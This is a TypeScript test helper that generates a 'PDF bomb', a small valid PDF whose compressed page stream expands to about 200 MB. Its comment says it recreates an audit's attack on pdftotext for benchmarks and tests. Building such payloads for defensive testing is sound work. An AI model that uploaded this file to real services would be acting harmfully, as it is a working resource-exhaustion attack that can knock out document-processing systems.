import { deflateSync } from "node:zlib";

/**
 * A valid PDF of `compressed` size a few hundred KB whose one page's content stream expands to
 * `expandedBytes` (200 MB unless given) of text-drawing operators: what the outside audit uploaded to
 * make `pdftotext` run for its whole timeout (a "PDF bomb"). For `npm run bench:attacks` and tests only.
 */
export function pdfBomb(expandedBytes = 200 * 1024 * 1024): Buffer {
  const line = "BT /F1 9 Tf 20 20 Td (Admission fees and bus routes for every class) Tj ET\n";
  const chunk = Buffer.from(line.repeat(Math.ceil((1024 * 1024) / line.length)));
  const copies = Math.max(1, Math.round(expandedBytes / chunk.length));
  const content = deflateSync(Buffer.concat(Array.from({ length: copies }, () => chunk)), { level: 9 });
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  const parts: Buffer[] = [Buffer.from("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  const add = (piece: Buffer) => {
    parts.push(piece);
    length += piece.length;
  };
  objects.forEach((body, index) => {
    offsets.push(length);
    add(Buffer.from(`${index + 1} 0 obj\n${body}\nendobj\n`, "latin1"));
  });
  offsets.push(length);
  add(Buffer.from(`5 0 obj\n<< /Length ${content.length} /Filter /FlateDecode >>\nstream\n`, "latin1"));
  add(content);
  add(Buffer.from("\nendstream\nendobj\n", "latin1"));
  const xref = length;
  const table = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  add(
    Buffer.from(
      `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`,
      "latin1",
    ),
  );
  return Buffer.concat(parts);
}
